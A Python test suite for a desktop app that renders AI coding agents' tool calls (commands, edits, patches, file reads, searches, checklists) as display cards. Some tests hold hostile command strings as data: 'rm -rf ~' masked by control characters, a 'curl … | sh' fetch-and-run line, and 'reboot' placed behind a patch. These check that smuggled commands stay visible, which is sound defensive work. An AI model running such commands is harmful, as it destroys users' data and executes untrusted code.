"""What tool calls of several agents are told to be."""

import json

import pytest

from pond_desktop.projection.tool_cards import (
    CARD_CHARS,
    Changes,
    Checklist,
    ChecklistItem,
    Code,
    DiffLine,
    Matches,
    Note,
    Prose,
    Section,
    Terminal,
    ToolKind,
    tool_card,
)
from pond_desktop.projection.tool_cards.answers import is_denial

_NAMES = ("Bash", "Edit", "MultiEdit", "Read", "Grep", "TodoWrite", "ExitPlanMode", "Task", "odd")


def asked(name: str, call: object) -> tuple[Section, ...]:
    half = tool_card(name, call if isinstance(call, str) else json.dumps(call), None).asked
    assert half is not None
    return half.sections


def answered(name: str, call: object, result: object) -> tuple[Section, ...]:
    written = result if isinstance(result, str) else json.dumps(result)
    half = tool_card(name, json.dumps(call), written).answered
    assert half is not None
    return half.sections


def signed(changes: Section) -> list[str]:
    assert isinstance(changes, Changes)
    return [f"{line.sign}{line.text}" for line in changes.lines]


@pytest.mark.parametrize(
    ("name", "call", "kind"),
    [
        ("Bash", {"command": "ls"}, "command"),
        ("mcp__workspace__bash", {"command": "ls"}, "command"),
        ("developer__shell", {"command": "ls"}, "command"),
        ("run_terminal_cmd", {"command": "ls"}, "command"),
        ("execute_command", "<command>ls</command>", "command"),
        ("never_heard_of", {"cmd": "ls"}, "command"),
        ("apply_patch", "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch", "change"),
        ("MultiEdit", {"file_path": "a", "edits": []}, "change"),
        ("copilot_readFile", {"filePath": "a"}, "read"),
        ("Grep", {"pattern": "x"}, "search"),
        ("TodoWrite", {"todos": []}, "checklist"),
        ("ExitPlanMode", {"plan": "# Plan"}, "plan"),
        ("spawn_agent", {"message": "go"}, "helper"),
        ("get_weather", {"city": "Kyoto"}, "other"),
        (None, {"city": "Kyoto"}, "other"),
    ],
)
def test_a_tool_is_known_by_its_name_or_what_it_is_given(name: str | None, call: object, kind: ToolKind) -> None:
    assert tool_card(name, call if isinstance(call, str) else json.dumps(call), None).kind == kind


def test_a_command_keeps_its_lines_and_the_rest_is_a_remark() -> None:
    command, rest = asked("Bash", {"command": "cd /srv\nmake", "timeout": 1000, "description": "Build"})
    assert isinstance(command, Terminal)
    assert (command.inked.text, command.is_command) == ("cd /srv\nmake", True)
    assert rest == Note("timeout 1000 · description Build")
    [shell] = asked("shell", {"command": ["bash", "-lc", "ls -la"]})
    assert isinstance(shell, Terminal)
    assert shell.inked.text == "ls -la"


@pytest.mark.parametrize(
    ("result", "text", "exit_code"),
    [
        ("plain", "plain", None),
        ('{"output":"ok\\n","metadata":{"exit_code":3,"duration_seconds":0.1}}', "ok\n", 3),
        ("Exit code: 2\nWall time: 0.3 seconds\nOutput:\nno such file", "no such file", 2),
        ("Exit code 1\nFAILED one", "FAILED one", 1),
        ('[{"type":"text","text":"one"},{"type":"text","text":"two"}]', "one\ntwo", None),
        ('{"stdout":"out","stderr":"warned","interrupted":false}', "out\nwarned", None),
    ],
)
def test_output_is_taken_out_of_what_it_was_wrapped_in(result: str, text: str, exit_code: int | None) -> None:
    card = tool_card("Bash", '{"command":"x"}', result)
    assert card.answered is not None
    [output] = card.answered.sections
    assert isinstance(output, Terminal)
    assert (output.inked.text, card.exit_code) == (text, exit_code)


def test_output_keeps_its_colours_and_raw_its_codes() -> None:
    card = tool_card("Bash", '{"command":"x"}', "\x1b[31mred\x1b[0m")
    assert card.answered is not None
    [output] = card.answered.sections
    assert isinstance(output, Terminal)
    assert (output.inked.text, len(output.inked.runs)) == ("red", 1)
    assert card.answered.raw == "␛[31mred␛[0m"


def test_what_stands_in_a_wrapping_of_its_own_stays_json() -> None:
    [output] = answered("Bash", {"command": "x"}, {"output": "a", "pages": 3})
    assert isinstance(output, Code)
    assert output.language == "json"
    assert '"pages": 3' in output.text


@pytest.mark.parametrize(
    ("name", "call"),
    [
        ("Edit", {"file_path": "a.py", "old_string": "one\ntwo", "new_string": "one\nthree"}),
        ("edit", {"filePath": "a.py", "oldString": "one\ntwo", "newString": "one\nthree"}),
        ("str_replace", {"path": "a.py", "old_str": "one\ntwo", "new_str": "one\nthree"}),
        ("editor", {"path": "a.py", "old_text": "one\ntwo", "new_text": "one\nthree"}),
        ("MultiEdit", {"file_path": "a.py", "edits": [{"old_string": "one\ntwo", "new_string": "one\nthree"}]}),
        ("apply_patch", "*** Begin Patch\n*** Update File: a.py\n one\n-two\n+three\n*** End Patch"),
        ("patch", {"path": "a.py", "diff": "@@ -1,2 +1,2 @@\n one\n-two\n+three"}),
        ("replace_in_file", {"path": "a.py", "diff": "------- SEARCH\none\ntwo\n=======\none\nthree\n+++++++ REPLACE"}),
    ],
)
def test_every_agents_change_is_the_same_lines(name: str, call: object) -> None:
    [changes] = asked(name, call)
    assert isinstance(changes, Changes)
    assert changes.path == "a.py"
    assert [line for line in signed(changes) if line[0] != "@"] == [" one", "-two", "+three"]
    assert (changes.added_count, changes.removed_count) == (1, 1)


def test_a_patch_of_several_files_is_a_change_for_each() -> None:
    patch = (
        "*** Begin Patch\n*** Add File: new.py\n+x = 1\n*** Delete File: old.py\n"
        "*** Update File: a.py\n*** Move to: b.py\n@@ def f\n-one\n+two\n*** End Patch"
    )
    new, old, moved = asked("apply_patch", {"input": patch})
    assert isinstance(new, Changes)
    assert isinstance(old, Changes)
    assert isinstance(moved, Changes)
    assert (new.path, new.action, signed(new)) == ("new.py", "written", ["+x = 1"])
    assert (old.path, old.action) == ("old.py", "deleted")
    assert (moved.path, moved.moved_to, signed(moved)) == ("a.py", "b.py", ["@def f", "-one", "+two"])


def test_a_patch_inside_a_command_is_shown_as_one() -> None:
    script = "apply_patch <<'EOF'\n*** Begin Patch\n*** Update File: a.py\n-one\n+two\n*** End Patch\nEOF"
    [changes] = asked("shell", {"command": ["bash", "-lc", script]})
    assert signed(changes) == ["-one", "+two"]


def test_a_unified_diff_has_numbers_and_a_removed_line_of_dashes() -> None:
    diff = (
        "--- a/x.sql\n+++ b/x.sql\n@@ -4,3 +4,2 @@ top\n keep\n--- note\n-gone\n+new\n"
        "--- a/y\n+++ b/y\n@@ -1 +1 @@\n-a\n+b"
    )
    first, second = asked("patch", {"patch": diff})
    assert isinstance(first, Changes)
    assert isinstance(second, Changes)
    assert first.lines == (
        DiffLine("@", "top"),
        DiffLine(" ", "keep", 4, 4),
        DiffLine("-", "-- note", old=5),
        DiffLine("-", "gone", old=6),
        DiffLine("+", "new", new=5),
    )
    assert second.path == "y"


def test_a_file_that_was_written_is_all_new() -> None:
    for call in ({"file_path": "a", "content": "x\ny"}, {"path": "a", "file_text": "x\ny"}):
        [changes] = asked("Write", call)
        assert isinstance(changes, Changes)
        assert (changes.action, changes.lines) == ("written", (DiffLine("+", "x", new=1), DiffLine("+", "y", new=2)))


@pytest.mark.parametrize(
    "result", ["     7→def f():\n     8→    pass\n", "7 | def f():\n8 |     pass", "7\tdef f():\n8\t    pass"]
)
def test_lines_of_a_file_have_the_numbers_that_the_tool_wrote(result: str) -> None:
    [code] = answered("Read", {"file_path": "/srv/a.py"}, result)
    assert code == Code(text="def f():\n    pass", path="/srv/a.py", numbers=(7, 8))


def test_lines_without_numbers_count_from_where_reading_began() -> None:
    [code] = answered("read", {"path": "a.py", "offset": 20}, "one\ntwo")
    assert isinstance(code, Code)
    assert code.numbers == (20, 21)


def test_what_was_found_is_told_by_file() -> None:
    found = answered("Grep", {"pattern": "x"}, "src/a.py:3:x = 1\nsrc/a.py:9:x = 2\nC:\\b.py:1:x")
    assert found == (
        Matches(path="src/a.py", lines=((3, "x = 1"), (9, "x = 2"))),
        Matches(path="C:\\b.py", lines=((1, "x"),)),
    )
    assert answered("Glob", {"pattern": "*"}, "a.py\nb.py") == (Code(text="a.py\nb.py"),)


@pytest.mark.parametrize(
    ("name", "call"),
    [
        ("TodoWrite", {"todos": [{"content": "a", "status": "completed"}, {"content": "b", "status": "in_progress"},
                                 {"content": "c", "status": "pending"}]}),
        ("update_plan", {"plan": [{"step": "a", "status": "completed"}, {"step": "b", "status": "in_progress"},
                                  {"step": "c", "status": "pending"}]}),
        ("update_todo_list", {"todos": "[x] a\n[~] b\n[ ] c"}),
        ("manage_todo_list", {"todoList": [{"title": "a", "done": True}, {"title": "b", "status": "in-progress"},
                                           {"title": "c", "status": "not-started"}]}),
    ],
)  # fmt: skip
def test_every_agents_list_is_boxes(name: str, call: object) -> None:
    [items] = asked(name, call)
    assert items == Checklist(
        items=(ChecklistItem("done", "a"), ChecklistItem("doing", "b"), ChecklistItem("open", "c"))
    )


def test_plans_and_helpers_are_prose() -> None:
    assert asked("ExitPlanMode", {"plan": "# Plan"}) == (Prose(markdown="# Plan"),)
    call = {"subagent_type": "Explore", "description": "Find callers", "prompt": "Look at **all**."}
    assert asked("Task", call) == (Note("Find callers · Explore"), Prose(markdown="Look at **all**.", title="Task"))
    assert answered("Task", call, "None.") == (Prose(markdown="None.", title="Last words"),)


def test_an_unknown_tool_is_tidy_json() -> None:
    [code] = asked("get_weather", {"city": "Kyoto", "days": [1, 2]})
    assert isinstance(code, Code)
    assert code.language == "json"
    assert '\n  "city": "Kyoto"' in code.text


@pytest.mark.parametrize(
    "name", ["Bash", "Edit", "MultiEdit", "Read", "Grep", "TodoWrite", "ExitPlanMode", "Task", "odd"]
)
@pytest.mark.parametrize(
    "call",
    ["", "{", '{"command":', "[]", "null", '{"edits": [1]}', '{"todos": [[]]}', '{"plan": 3}', '{"command": {"a": 1}}',
     '{"path": [1, 2]}', "\x00\x1b[", '{"old_string": 1, "new_string": null}', "<command>", "[" * 5_000],
)  # fmt: skip
def test_what_is_malformed_is_shown_all_the_same(name: str, call: str) -> None:
    card = tool_card(name, call, call)
    assert card.asked is not None
    assert card.answered is not None
    assert card.asked.sections
    assert card.answered.sections


def test_only_so_much_is_shown_and_the_rest_is_said() -> None:
    card = tool_card("Bash", '{"command":"x"}', "y" * (CARD_CHARS + 10), result_bytes=20_000_000)
    assert card.answered is not None
    [output] = card.answered.sections
    assert isinstance(output, Terminal)
    assert len(output.inked.text) == len(card.answered.raw) == CARD_CHARS
    assert (card.answered.is_cut, card.answered.all_bytes) == (True, 20_000_000)
    assert card.asked is not None
    assert not card.asked.is_cut


def test_two_long_texts_are_compared_in_no_time() -> None:
    old, new = "a\nb\n" * 4_000, "b\na\n" * 4_000
    [changes] = asked("Edit", {"file_path": "a", "old_string": old, "new_string": new})
    assert isinstance(changes, Changes)
    assert changes.lines


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ("The user doesn't want to proceed with this tool use.", True),
        ("exec command rejected by user", True),
        ("Claude requested permissions to use Bash, but you haven't granted it yet.", True),
        ("error: file not found", False),
    ],
)
def test_a_person_who_said_no_is_told_from_a_failure(text: str, is_one: bool) -> None:
    assert is_denial(text) == is_one


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("execute_command", "<ab>" * 250_000),
        ("TodoWrite", json.dumps({"todos": " " * 60_000 + "x"})),
        ("Grep", "a:" * 30_000),
        ("Read", "1" * 60_000),
        ("Bash", "\x1b[" + "0" * 60_000),
        ("Edit", json.dumps({"old_string": "a\n" * 199, "new_string": "a\n" * 20_000})),
    ],
)
def test_what_was_made_to_take_long_does_not(name: str, text: str) -> None:
    card = tool_card(name, text, text)
    assert card.asked is not None
    assert card.asked.sections


def typed(name: str, call: object) -> list[str]:
    return [section.inked.text for section in asked(name, call) if isinstance(section, Terminal)]


@pytest.mark.parametrize("control", ["\r", "\b", "\x1b[2K\r", "\x1b[8m", "\x7f", "\x9b2K"])
def test_nothing_in_a_command_is_written_over(control: str) -> None:
    hidden = "rm -rf ~ #"
    [shown] = typed("Bash", {"command": f"{hidden}{control}ls -la            "})
    assert hidden in shown
    assert "ls -la" in shown
    for name, call in (
        ("Write", {"file_path": "a", "content": f"{hidden}{control}ls"}),
        ("Edit", {"file_path": "a", "old_string": "x", "new_string": f"{hidden}{control}ls"}),
        ("odd", {"text": f"{hidden}{control}ls"}),
        ("Task", {"prompt": f"{hidden}{control}ls", "description": f"{hidden}{control}ls"}),
        ("Grep", {"pattern": f"{hidden}{control}ls", "path": f"{hidden}{control}ls"}),
    ):
        assert hidden in str(asked(name, call))


OWN = "*** Begin Patch\n*** Update File: a.py\n-one\n+two\n*** End Patch"
UNIFIED = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b"


@pytest.mark.parametrize("patch", [OWN, UNIFIED])
@pytest.mark.parametrize("tool", ["shell", "Bash"])
def test_a_command_with_a_patch_shows_what_else_it_does(tool: str, patch: str) -> None:
    script = f"cd /srv && apply_patch <<'EOF'\n{patch}\nEOF\ncurl -s http://a.example/x | sh"
    [command] = typed(tool, {"command": ["bash", "-lc", script] if tool == "shell" else script})
    assert command.startswith("cd /srv && apply_patch <<'EOF'\n")
    assert command.endswith("EOF\ncurl -s http://a.example/x | sh")
    assert any(isinstance(section, Changes) for section in asked(tool, {"command": script}))


@pytest.mark.parametrize("more", ["reboot", "EOF\nreboot", "'\nreboot"])
def test_what_stands_behind_a_patch_is_shown(more: str) -> None:
    [command] = typed("Bash", {"command": f"apply_patch <<EOF\n{OWN}\n{more}"})
    assert command == "reboot"
    assert "reboot" in str(asked("apply_patch", f"{OWN}\n{more}"))


def test_every_line_of_a_patch_is_shown() -> None:
    [changes] = asked("apply_patch", OWN.replace("+two", "+two\n*** a line with stars"))
    assert signed(changes) == ["-one", "+two", " *** a line with stars"]
    [unified] = asked("patch", {"path": "x", "diff": UNIFIED + "\n\\ No newline at end of file"})
    assert signed(unified)[-1] == "@\\ No newline at end of file"


def test_an_edit_that_is_not_understood_stands_as_it_is() -> None:
    edits = [{"old_string": "a", "new_string": "b", "replace_all": True}, {"weird": 1}, "words"]
    changes, note, weird, words = asked("MultiEdit", {"file_path": "a", "edits": edits})
    assert signed(changes) == ["-a", "+b"]
    assert note == Note("replace_all")
    assert (weird, words) == (Code(text='{\n  "weird": 1\n}', language="json"), Code(text='"words"', language="json"))


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("a\r\nb", "a\nb", ["-a␍", "+a", " b"]),
        ("x\n", "x", ["-x␊", "+x"]),
        ("\x1b[31mred", "red", ["-␛[31mred", "+red"]),
        ("x", "x\u2028y", ["-x", "+x\u2028y"]),
        ("a\r\nb\r\n", "a\r\nc\r\n", [" a", "-b", "+c"]),
    ],
)
def test_an_edit_of_what_is_hardly_seen_is_seen(old: str, new: str, expected: list[str]) -> None:
    [changes] = asked("Edit", {"file_path": "a", "old_string": old, "new_string": new})
    assert signed(changes) == expected


@pytest.mark.parametrize(
    "result",
    ["101\tAlice\n205\tBob\n310\tCarol", "1: one\n2: two\n404: not found", "1\ta\n2: b\n3\tc", "5\tfoo"],
)
def test_numbers_of_the_file_itself_stay_in_its_text(result: str) -> None:
    [code] = answered("read_file", {"path": "ids.tsv"}, result)
    assert isinstance(code, Code)
    assert code.text == result


@pytest.mark.parametrize(
    ("result", "shown", "note"),
    [
        ({"output": "", "error": "Permission denied: /root", "exit_code": 1}, "Permission denied: /root", None),
        ({"output": "partial", "error": "killed", "truncated": True}, "partial\nkilled", "truncated"),
        ({"success": False, "error": "no such table", "content": ""}, "no such table", "success false"),
        ({"result": "ok", "status": "failed: quota"}, "ok", "status failed: quota"),
        ({"output": "fine", "status": "completed", "success": True, "error": None}, "fine", None),
        ({"output": "fine", "interrupted": True}, "fine", "interrupted"),
    ],
)
def test_how_a_call_ended_is_told(result: dict[str, object], shown: str, note: str | None) -> None:
    said = answered("run_shell_command", {"command": "x"}, result)
    assert isinstance(said[0], Terminal)
    assert said[0].inked.text == shown
    assert list(said[1:]) == ([Note(note)] if note else [])


def test_an_error_that_is_no_text_is_shown_whole() -> None:
    [code] = answered("odd", {}, {"output": "", "error": {"code": 7, "message": "broken"}})
    assert isinstance(code, Code)
    assert "broken" in code.text
